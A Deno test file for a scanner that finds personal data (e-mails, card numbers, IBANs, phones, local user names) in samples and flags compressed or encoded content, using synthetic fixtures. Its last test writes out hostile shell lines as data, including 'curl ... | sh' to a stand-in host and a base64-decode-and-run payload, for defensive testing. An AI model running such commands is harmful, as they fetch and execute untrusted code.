import { deepEqual, ok } from "node:assert/strict";
import { findPersonalData, findPersonalDataAside } from "../../samples/personal_data.ts";

const FACTS = { userNames: ["jdoe"], homes: ["/home/jdoe"] };

Deno.test("searched on a thread of its own, a large text gives the counts of the whole", async () => {
  const lines: string[] = [];
  for (let i = 0; i < 40_000; i++) {
    lines.push(
      i % 997 === 0
        ? `owner jdoe <jane.doe${i}@example.org> card 4111 1111 1111 1111 in /home/jdoe/x`
        : `line ${i} of nothing personal, padded to a realistic length for a log file`,
    );
  }
  // Long enough for a dozen batches, so that lines straddle their edges.
  const text = new TextEncoder().encode(lines.join("\n"));
  ok(text.length > 2_500_000);
  const whole = findPersonalData(text, FACTS);
  deepEqual(await findPersonalDataAside(text, FACTS), whole);
  deepEqual(whole.map((f) => f.kind), [
    "e-mail address",
    "user name of this machine",
    "home path of this machine",
    "card-like number",
  ]);
  // The user name counts twice a line: alone, and in the home path.
  deepEqual(whole.map((f) => f.count), [41, 82, 41, 41]);
});

Deno.test("searching a large sample never stops the agent's own thread for long", async () => {
  const text = new Uint8Array(8 * 1024 * 1024);
  for (let i = 0; i < text.length; i += 65536) crypto.getRandomValues(text.subarray(i, i + 65536));
  let longest = 0;
  let last = performance.now();
  const timer = setInterval(() => {
    const now = performance.now();
    longest = Math.max(longest, now - last);
    last = now;
  }, 5);
  try {
    await findPersonalDataAside(text, FACTS);
  } finally {
    clearInterval(timer);
  }
  // A liveness bound, many times a timer's period: the search ran elsewhere.
  ok(longest < 500, `the event loop stood still for ${longest.toFixed(0)} ms`);
});

const utf16 = (text: string, bigEndian = false) => {
  const bytes = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) bytes[i * 2 + (bigEndian ? 1 : 0)] = text.charCodeAt(i);
  return bytes;
};
const joined = (...parts: (Uint8Array | string)[]) => {
  const chunks = parts.map((p) => typeof p === "string" ? new TextEncoder().encode(p) : p);
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let at = 0;
  for (const chunk of chunks) {
    out.set(chunk, at);
    at += chunk.length;
  }
  return out;
};
const kinds = (bytes: Uint8Array) =>
  findPersonalData(bytes, FACTS).map((f) => `${f.kind} (${f.count})`);

Deno.test("personal data is found in UTF-16 of either byte order and in Latin-1, counted once", () => {
  const address = "contact alice.smith@corp-example.com, iban GB82WEST12345698765432";
  deepEqual(kinds(joined("MZ\x90\0", new Uint8Array(60), utf16(address))), [
    "e-mail address (1)",
    "bank account number (IBAN) (1)",
  ]);
  deepEqual(kinds(joined("#!/bin/sh\n", utf16(address, true))), [
    "e-mail address (1)",
    "bank account number (IBAN) (1)",
  ]);
  deepEqual(
    kinds(joined("#!/bin/sh\n# Jos", new Uint8Array([0xe9]), " <jose@corp-example.com>\n")),
    ["e-mail address (1)"],
  );
});

Deno.test("numbers written the ways people write them are found: bare phones, dotted cards, lower-case IBANs", () => {
  deepEqual(kinds(joined("call +447700900123 or 07700900123\n")), ["phone-like number (2)"]);
  deepEqual(kinds(joined("card 4111.1111.1111.1111\n")), ["card-like number (1)"]);
  deepEqual(kinds(joined("pay to gb82west12345698765432\n")), ["bank account number (IBAN) (1)"]);
  deepEqual(
    kinds(joined("digits 0123456789, 0000000000; alphabet ABCDEFGHIJKLMNOPQRSTUVWXYZ\n")),
    [],
    "a program's digit table is not a number of anyone's",
  );
});

Deno.test("compressed streams and long encoded runs are reported as content that cannot be checked", () => {
  const gzip = new Uint8Array([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3]);
  deepEqual(kinds(joined("#!/bin/sh\ntail -n +3 $0 | gunzip | sh; exit\n", gzip)), [
    "compressed data (1)",
  ]);
  const payload = btoa("a".repeat(50) + "hidden@corp-example.com" + "0123456789".repeat(6));
  deepEqual(kinds(joined(`#!/bin/sh\necho ${payload} | base64 -d | sh\n`)), [
    "encoded data (base64 or hex) (1)",
  ]);
  deepEqual(kinds(joined("#!/bin/sh\ncurl -s http://198.51.100.7/stage2 | sh\n")), []);
});
